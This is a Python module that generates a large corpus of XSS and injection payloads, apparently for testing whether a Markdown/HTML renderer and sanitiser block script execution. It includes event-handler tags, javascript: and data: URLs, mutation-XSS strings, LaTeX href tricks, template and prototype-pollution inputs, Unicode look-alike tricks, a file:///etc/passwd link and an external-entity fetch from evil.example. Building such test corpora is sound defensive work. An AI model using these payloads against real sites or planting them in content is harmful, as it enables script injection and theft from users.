"""Texts that try to make a browser run or fetch something, put together from the known families.

Each would set `window.pwned`, or ask for `/pwned` here or at evil.example, if anything gave in.
"""

import base64
import re
from collections.abc import Iterator, Sequence
from itertools import product

JS = "window.pwned=1"
EVIL = "https://evil.example/pwned"

HANDLERS = [
    ("img", "src=/pwned", "onerror"),
    ("svg", "", "onload"),
    ("body", "", "onload"),
    ("iframe", "src=/pwned", "onload"),
    ("video", "src=/pwned", "onerror"),
    ("audio", "src=/pwned", "onerror"),
    ("details", "open", "ontoggle"),
    ("input", "autofocus", "onfocus"),
    ("select", "autofocus", "onfocus"),
    ("textarea", "autofocus", "onfocus"),
    ("object", "data=/pwned", "onerror"),
    ("embed", "src=/pwned", "onload"),
    ("style", "", "onload"),
    ("link", "rel=stylesheet href=/pwned", "onerror"),
    ("marquee", "", "onstart"),
    ("form", "action=/pwned", "onfocusin"),
    ("a", "href=# tabindex=0 autofocus", "onfocus"),
    ("div", "style=animation-name:turn;animation-duration:1ms", "onanimationstart"),
    ("math", "tabindex=0 autofocus", "onfocus"),
    ("dialog", "open tabindex=0 autofocus", "onfocus"),
]
SPELLINGS = [
    '<{tag} {more} {on}="{js}">',
    "<{tag} {more} {on}='{js}'/>",
    "<{tag} {more} {on}={js}>",
    "<{TAG} {more} {ON}={js}>",
    "<{tag}/{more}/{on}={js}>",
    "<{tag}\n{more}\n{on}={js}\n>",
    '<{tag} {more} {on}="{entities}">',
    "<<{tag} {more} {on}={js}//",
    '"><{tag} {more} {on}={js}>',
    "</p></div><{tag} {more} {on}={js}>",
]

BASE64 = base64.b64encode(f"<script>{JS}</script>".encode()).decode()
ADDRESSES = [
    f"javascript:{JS}",
    f"JaVaScRiPt:{JS}",
    f"java&#10;script:{JS}",
    f"java&Tab;script:{JS}",
    f"&#106;&#97;vascript&colon;{JS}",
    f"&#x6A;avascript:{JS}",
    f"&#1;javascript:{JS}",
    f"javascript&#58;{JS}",
    f"javascript://%0a{JS}",
    f"vbscript:{JS}",
    f"data:text/html,<script>{JS}</script>",
    f"data:text/html;base64,{BASE64}",
    f"data:image/svg+xml;base64,{BASE64}",
    f"blob:{EVIL}",
    "file:///etc/passwd",
    f"view-source:{EVIL}",
    "//evil.example/pwned",
    "/pwned",
]
LINKS = [
    "[click]({address})",
    "[click](<{address}> 'title')",
    "<{address}>",
    "![picture]({address})",
    "[![picture]({address})]({address})",
    "[click][{number}]\n\n[{number}]: {address}",
    "[1]({address}) and [^1]\n\n[^1]: {address}",
    '<a href="{address}">click</a>',
    "| [cell]({address}) |\n|---|\n| ![cell]({address}) |",
    "# [heading]({address})",
    "$\\href{{{address}}}{{x}}$",
]

ELEMENTS = [
    f"<script>{JS}</script>",
    f"<SCRIPT SRC={EVIL}></SCRIPT>",
    f"<scr<script>ipt>{JS}</scr</script>ipt>",
    f"<iframe srcdoc='<script>parent.{JS}</script>'></iframe>",
    f"<iframe src=javascript:parent.{JS}></iframe>",
    f"<object data='data:text/html,<script>{JS}</script>'></object>",
    f"<embed src='data:image/svg+xml,<svg onload={JS}>'>",
    f"<base href={EVIL}/>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<link rel=stylesheet href={EVIL}.css>",
    f"<style>@import '{EVIL}.css';</style>",
    f"<style>*{{background:url({EVIL})}}</style>",
    f"<div style='background:url({EVIL})'>x</div>",
    f"<form action={EVIL}><input name=q><button>go</button></form>",
    f"<button formaction=javascript:{JS}>go</button>",
    f"<svg><script>{JS}</script></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={JS}>#x'/></svg>",
    f"<svg><animate onbegin={JS} attributeName=x dur=1s></svg>",
    f"<svg><a xlink:href=javascript:{JS}><text>x</text></a></svg>",
    f"<img srcset='{EVIL} 1x'>",
    f"<picture><source srcset={EVIL}><img></picture>",
    f"<video poster={EVIL}></video>",
    f"<template><script>{JS}</script></template>",
    f"<xmp><script>{JS}</script>",
    f"<plaintext><script>{JS}</script>",
    f"<citation-mark number=1 onclick={JS}>",
]
PLACES = [
    "{}",
    "- {}",
    "> {}",
    "| {} | b |\n|---|---|\n| c | {} |",
    "## {}",
    "**{}** and *{}*",
    "`` {} `` then {}",
    "a<!-- b -->{}",
]

# Sanitisers read these one way and browsers another.
MUTATIONS = [
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={JS}&gt;'>",
    f"<svg></p><style><a id='</style><img src=1 onerror={JS}>'>",
    f"<noscript><p title='</noscript><img src=x onerror={JS}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={JS}>",
    f"<svg><desc><table><thead><style></table><img src=x onerror={JS}></style></thead></svg>",
    f"<math><annotation-xml encoding='text/html'><style><img src=x onerror={JS}></style></annotation-xml>",
    f"<listing>&lt;img src=x onerror={JS}&gt;</listing>",
    f"<select><template><img src=x onerror={JS}></template></select>",
    f"<![CDATA[<img src=x onerror={JS}>]]>",
    f"<!--><img src=x onerror={JS}>-->",
    f"<!--><script>{JS}</script>",
    f"<?xml version='1.0'?><?x <img src=x onerror={JS}> ?>",
    f"<!DOCTYPE x [<!ENTITY y SYSTEM '{EVIL}'>]><x>&y;</x>",
    f"</textarea><img src=x onerror={JS}>",
    f"</title><script>{JS}</script>",
    f"</script><script>{JS}</script>",
    f"<title><img title='</title><img src=x onerror={JS}>'>",
    f"&lt;img src=x onerror={JS}&gt;",
    f"&amp;lt;script&amp;gt;{JS}&amp;lt;/script&amp;gt;",
    f"%3Cscript%3E{JS}%3C/script%3E",
    f"\\u003cscript\\u003e{JS}\\u003c/script\\u003e",
    f"\\<img src=x onerror={JS}\\>",
]
FORMULAS = [
    f"$\\href{{javascript:{JS}}}{{x}}$",
    f"$$\\href{{javascript:{JS}}}{{x}}$$",
    f"$\\url{{javascript:{JS}}}$",
    f"$\\htmlData{{x=y onload={JS}}}{{x}}$",
    f"$\\htmlStyle{{background:url({EVIL})}}{{x}}$",
    f"$\\htmlId{{root}}{{x}}$ $\\htmlClass{{x onload={JS}}}{{x}}$",
    f"$\\includegraphics{{{EVIL}}}$",
    f"$\\text{{</annotation><img src=x onerror={JS}>}}$",
    f"$$\n</math><script>{JS}</script>\n$$",
    f"$x$<img src=x onerror={JS}>$y$",
    f"$\\def\\x{{\\x\\x}}\\x$ <svg onload={JS}>",
    f"$\\color{{red;background:url({EVIL})}}x$",
    f"$\\rule{{99999em}}{{99999em}}$ <svg onload={JS}>",
    f"\\(\\href{{javascript:{JS}}}{{x}}\\) \\[\\url{{{EVIL}}}\\]",
]
TEMPLATES = [
    "{{constructor.constructor('window.pwned=1')()}}",
    "${window.pwned=1}",
    "#{window.pwned=1}",
    "<%= window.pwned=1 %>",
    "{{7*7}}[[${window.pwned=1}]]",
    "{% include '/pwned' %}",
    "');window.pwned=1;//",
    '";window.pwned=1;//',
    "`;window.pwned=1;`",
    "*{background:url(https://evil.example/pwned)}",
    "x;background-image:url(https://evil.example/pwned)",
    "expression(window.pwned=1)",
    '{"__proto__":{"onload":"window.pwned=1"}}',
    "__proto__",
    "constructor",
]
SIGNS = [
    f"\u202e<script>{JS}</script>\u202c",
    f"\u2066<img src=x onerror={JS}>\u2069",
    f"＜script＞{JS}＜/script＞",  # noqa: RUF001 - letters that only look alike are the point
    f"‹img src=x onerror={JS}›",  # noqa: RUF001
    f"<\u200bscript>{JS}</script>",
    f"<img\u00a0src=x\u3000onerror={JS}>",
    f"<img\x0csrc=x\x0conerror={JS}>",
    f"<scr\x00ipt>{JS}</scr\x00ipt>",
    f"<img src=x \x00onerror={JS}>",
    f"\ufeff<svg onload={JS}>",
    f"jav\u0430script:{JS}",
    f"<\u0131mg src=x onerror={JS}>",
]
LONG = [
    "<b>" * 800 + f"<img src=x onerror={JS}>",
    "A" * 6_000 + f"<img src=x onerror={JS}>",
    "[" * 300 + f"x](javascript:{JS})",
    "*_" * 400 + f"<svg onload={JS}>",
    "> " * 80 + f"<svg onload={JS}>",
    f"<img src=x onerror={JS} " + "a=b " * 1_000 + ">",
]
# Each takes in whatever comes after it.
OPEN = [
    f"```html\n<script>{JS}</script>",
    f"~~~\n<img src=x onerror={JS}>",
    f'```"><img src=x onerror={JS}>\nx',
    f"```js onload={JS}\n</code></pre><svg onload={JS}>",
    f"<!-- <img src=x onerror={JS}>",
    f"<script>\n{JS}\n\n<img src=x onerror={JS}>",
    f"<style>\n\n<img src=x onerror={JS}>",
    f"<pre>\n\n<img src=x onerror={JS}>",
    f"<textarea>\n\n<img src=x onerror={JS}>",
    f"<![CDATA[\n\n<svg onload={JS}>",
    f"$$\n<svg onload={JS}>",
    f"<img src='x\n\n<svg onload={JS}>",
]


def texts() -> Sequence[str]:
    """More than 500, no two of them alike. The last ones leave something open."""
    found = [*_handlers(), *_links(), *_elements()]
    found += [*MUTATIONS, *FORMULAS, *TEMPLATES, *SIGNS, *LONG, *OPEN]
    return list(dict.fromkeys(found))


def leaves_open(text: str) -> bool:
    """Whether Markdown takes what comes after it for a part of it."""
    if text in OPEN or re.search(r"<!|<\?|\$\$", text):
        return True
    return any(
        len(re.findall(f"<{tag}\\b", text, re.IGNORECASE)) > len(re.findall(f"</{tag}", text, re.IGNORECASE))
        for tag in ("script", "style", "pre", "textarea")
    )


def pages(count: int) -> Sequence[Sequence[str]]:
    """All texts on so many pages or a few more; at most one on a page leaves something open, the last one."""
    calm = [each for each in texts() if not leaves_open(each)]
    last = [each for each in texts() if leaves_open(each)]
    count = max(count, len(last))
    return [[*calm[number::count], *last[number : number + 1]] for number in range(count)]


def _handlers() -> Iterator[str]:
    entities = "".join(f"&#{ord(each)};" for each in JS)
    for (tag, more, on), spelling in product(HANDLERS, SPELLINGS):
        names = {"tag": tag, "TAG": tag.swapcase(), "on": on, "ON": on.title()}
        yield spelling.format(**names, more=more, js=JS, entities=entities)


def _links() -> Iterator[str]:
    for number, (address, link) in enumerate(product(ADDRESSES, LINKS)):
        yield link.format(address=address, number=f"r{number}")


def _elements() -> Iterator[str]:
    for element, place in product(ELEMENTS, PLACES):
        yield place.replace("{}", element)
